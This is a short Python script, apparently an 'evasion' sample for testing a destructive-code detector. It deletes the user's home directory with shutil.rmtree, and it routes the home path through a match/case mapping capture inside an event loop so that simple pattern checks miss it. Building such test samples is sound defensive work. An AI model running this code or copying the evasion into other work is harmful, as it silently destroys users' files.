# Evasion: deletes the home directory through a match statement's capture. An
# event loop dispatches events with match/case; the reset event's path is
# captured by a mapping pattern, and one queued event carries the home.
import os
import shutil
from collections import deque

events = deque([
    {"type": "log", "text": "starting"},
    {"type": "reset", "path": os.path.expanduser("~")},
    {"type": "log", "text": "done"},
])


def handle(event):
    match event:
        case {"type": "log", "text": text}:
            print(text)
        case {"type": "reset", "path": where}:
            shutil.rmtree(where, ignore_errors=True)
        case _:
            pass


while events:
    handle(events.popleft())
